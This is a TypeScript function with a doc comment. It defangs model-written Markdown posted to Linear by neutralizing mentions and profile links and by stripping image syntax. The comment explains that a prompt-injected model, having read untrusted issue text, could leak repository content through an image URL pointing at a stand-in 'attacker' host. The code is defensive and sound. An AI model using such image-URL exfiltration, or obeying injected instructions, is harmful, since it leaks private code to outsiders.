/**
 * Markdown Patchbay posts to Linear (comments, activities), made unable to notify anyone or to fetch
 * anything by being shown. Much of it comes from the model (summaries, questions, tool arguments),
 * which read untrusted issue text and repository files, or from errors.
 * - Mentions: Linear turns a profile link (`https://linear.app/<workspace>/profiles/<handle>`, bare
 *   or in `[…](…)`) into a mention that notifies that person, and people read `@handle` as one;
 *   worse, a mention of the bot user in the agent's own text would come back as a comment webhook
 *   and start work. A zero-width space after `@` and inside `/profiles/` keeps the text readable
 *   and inert; e-mail addresses are left alone.
 * - Images: `![…](https://attacker/?d=…)` is fetched by every viewer's browser (or Linear's proxy),
 *   so a prompt-injected model could send repository content out through it without a click. It
 *   becomes a plain link.
 */
export function toInertMarkdown(text: string): string {
  return text
    .replace(/(?<![\p{L}\p{N}_.])@(?=[\p{L}\p{N}_])/gu, '@\u200b')
    .replace(/(linear\.app\/[^/\s)\]]+\/profiles)\//gi, '$1\u200b/')
    .replace(/!(?=\[[^\]\n]*\]\()/g, '');
}
